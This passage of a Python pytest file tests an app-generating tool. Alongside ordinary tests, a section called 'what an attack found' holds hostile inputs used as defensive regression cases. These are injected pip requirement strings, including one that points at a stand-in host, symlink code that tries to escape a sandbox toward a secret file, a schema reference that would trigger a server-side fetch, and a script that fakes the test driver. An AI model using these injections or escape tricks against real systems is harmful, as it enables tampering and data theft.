    with pytest.raises(GeistError):
        store.find("one")


def test_what_is_ejected_stands_by_itself(tmp_path: Path, browser: Browser) -> None:
    plan, source = BOOKS, SHAPES["records"].build(BOOKS, BOOKS_CODE)
    kept = Apps(home()).add(
        "service",
        "Books",
        "keeps books",
        (),
        plan.plain(),
        Version("books", tuple(BOOKS_CHECKS), 0.0),
        source,
    )
    eject(kept, source, tmp_path / "books")
    lock = (tmp_path / "books" / "requirements.lock").read_text()
    assert (
        "starlette==" in lock
        and "--hash=sha256:" in lock
        and "BSD" in (tmp_path / "books" / "LICENCES.md").read_text()
    )
    tip = SHAPES["form"].build(TIP, TIP_CODE)
    kept = Apps(home()).add(
        "page", "Tip", "splits", (), TIP.plain(), Version("tip", (TIP_CHECK,), 0.0), tip
    )
    eject(kept, tip, tmp_path / "tip")
    for folder, count in (("books", 5), ("tip", 1)):
        tests = subprocess.run(
            [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider"],
            cwd=tmp_path / folder,
            capture_output=True,
            text=True,
            timeout=100,
            check=False,
        )
        assert f"{count} passed" in tests.stdout, tests.stdout


@given(st.decimals(-10_000, 10_000, places=4), st.integers(0, 3))
def test_programs_round_as_people_do(number: Decimal, digits: int) -> None:
    there = dict[str, Any]()
    exec(plumbing("rounding.py"), there)
    step = Decimal(1).scaleb(-digits)
    for name, way in (
        ("rounded", ROUND_HALF_UP),
        ("rounded_up", ROUND_CEILING),
        ("rounded_down", ROUND_FLOOR),
    ):
        made, wanted = there[name](float(number), digits), number.quantize(step, way)
        assert Decimal(str(made)) == wanted, (name, made, wanted)


def test_pages_round_as_people_do(browser: Browser) -> None:
    code = "function compute(x) { return {Near: rounded(x, 2), Up: roundedUp(x, 2), Down: roundedDown(x, 2)}; }"
    source = SHAPES["form"].build(
        Plan("page", "form", "R", "", (Field("X", "number"),), (), ("Go",)), code
    )
    for x, near, up, down in (("1.005", "1.01", "1.01", "1"), ("-2.345", "-2.35", "-2.34", "-2.35"),
                              ("0.28", "0.28", "0.28", "0.28"), ("1e14", "1e14", "1e14", "1e14")):  # fmt: skip
        line = f"X is {x}; press Go → Near is {near}; Up is {up}; Down is {down}"
        assert page.check(browser, source, parse(line, "page")) == ""


def test_a_box_is_no_choice_that_begins_with_yes() -> None:
    one = {"label": "Resident", "kind": "choice", "options": ["yes", "no"]}
    told = {"title": "t", "shape": "form", "inputs": [one], "buttons": [], "outputs": []}
    assert read(json.dumps(told), "page", "").inputs == (Field("Resident", "yesno"),)


def test_what_stands_for_a_part_of_a_path_is_one() -> None:
    routes = [
        {"method": "get", "path": p, "says": ""}
        for p in ("/go/CODE", "/b/:isbn", "/b/{id}/lend", "/b/<code>/x")
    ]
    told = {"title": "t", "resource": "books", "fields": [], "filters": [], "routes": routes}
    made = read(json.dumps(told), "service", "")
    assert [r.path for r in made.routes] == [
        "/go/{code}",
        "/b/{isbn}",
        "/b/{id}/lend",
        "/b/{code}/x",
    ]


def test_the_brief_shows_small_models_calls_and_strong_ones_checks() -> None:
    checks = [parse(TIP_CHECK, "page")]
    assert 'compute(50, 20) gives {"Total": 60}' in Building(TIP, checks, False)._pack.text
    assert TIP_CHECK in Building(TIP, checks, True)._pack.text
    assert isinstance(available(home()), Bubblewrap) and tool.QUICK.seconds < 20


def test_the_user_edits_what_is_proposed(tmp_path: Path, model_server: Scripted) -> None:
    uses = json.dumps({"examples": [{"files": {"a.txt": "x\ny\n"}, "arguments": "a.txt", "input": ""},
                                    {"files": {"b.txt": "x\n"}, "arguments": "b.txt", "input": ""}]})  # fmt: skip
    model_server.script = [PLAN, uses, RUN]
    screen = Terminal(
        tmp_path, "make", "a tool that counts lines of FILE", "--model", model_server.url
    )
    screen.wait("another", 60)
    for typed, told in (("-2\r", "another"), ("+\r", "check:"), ("so be it\r", "cannot be understood"),
                        ("+\r", "check:"), ("run gone.txt → fails\r", "run gone.txt"), ("\r", "verified: 2 checks")):  # fmt: skip
        screen.type(typed)
        screen.wait(told, 60)
    assert screen.end() == 0


# what an attack found


@pytest.mark.parametrize(
    "wanted",
    [
        "evil @ file:///tmp/x",
        "git+https://x.example/a",
        "--log=/tmp/x",
        "tabulate",
        "tabulate==1; x",
    ],
)
def test_pip_is_asked_for_names_with_versions_alone(wanted: str) -> None:
    with pytest.raises(GeistError, match="no name with a fixed version"):
        packages.installed((wanted,), False)


def test_what_an_app_puts_into_its_folder_leads_nowhere(tmp_path: Path) -> None:
    secret, other = tmp_path / "secret", tmp_path / "other"
    secret.write_text('writes\t"mine"')
    other.mkdir(mode=0o700)
    app = tmp_path / "app.py"
    app.write_text(RAW.replace("BODY", f"""import os
    for name in ("errors", "heard"):
        os.symlink({str(secret)!r}, "/geist/data/s1/link")
        os.replace("/geist/data/s1/link", f"/geist/data/s1/{{name}}")
    os.symlink({str(other)!r}, "/geist/data/s2")
    return JSONResponse([])"""))  # fmt: skip
    with Served(app) as served:
        with served.fresh() as client:
            assert client.ask("GET", "/notes").json == []
            assert client.errors == "" and not any("mine" in h.what for h in client.heard)
        with pytest.raises(OSError):
            served.fresh()
    assert other.stat().st_mode & 0o777 == 0o700


def test_a_description_that_refers_to_elsewhere_is_not_followed(tmp_path: Path) -> None:
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    app = tmp_path / "app.py"
    schema = f'{{"$ref": "http://127.0.0.1:{server.getsockname()[1]}/a.json"}}'
    app.write_text(RAW.replace("BODY", SAFE_QUERY).replace('{"type": "string"}', schema))
    with Served(app) as served:
        assert "ref" in {f.rule for f in service.tried(served, [])}
    with pytest.raises(TimeoutError):
        server.accept()
    server.close()


def test_a_page_cannot_answer_for_the_driver(browser: Browser) -> None:
    fake = """const fake = {fill: () => '', press: () => '', values: () => ['60'], seen: () => 'x', controls: () => [], count: () => 0,
    planted: () => 0, wide: () => 0, alerts: () => ''}; Object.defineProperty(window, 'geistApp', {value: fake, writable: false})"""
    source = PAGE.replace("</script></body>", f"{fake}</script></body>").replace("SCRIPT", "")
    assert page.check(browser, source, parse("Name is a; press Go → Total is 60", "page"))


@pytest.mark.parametrize(
    "source",
    ["<![foo[", "<a " * 20_000, "<p>\ud800</p>", "<script>" + "[" * 3000 + "</script>", '{"a": 1}'],
)
def test_odd_pages_get_a_verdict(source: str, browser: Browser) -> None:
    task = task_of(TIP, [parse(TIP_CHECK, "page")])
    assert Judge(Bench(browser, {}))(task, Text(source)).status is Status.FAILED


@given(st.text(alphabet='#/ scriptdependencies=[]"\n', max_size=200))
def test_any_block_of_dependencies_is_read_or_refused(text: str) -> None:
    try:
        packages.needs(text)
    except ValueError as e:
        assert str(e)


def test_the_kind_is_told_by_the_words() -> None:
    assert pick("prints the longest lines of FILE, --count N", ()) == "tool"
    assert (
        pick("a calculator for dry food", ()) == "page" and pick("totals", ("a.csv",)) == "script"
    )
    assert (
        pick("a service that keeps books: POST /books", ()) == "service"
        and pick("my cats", ()) is None
    )
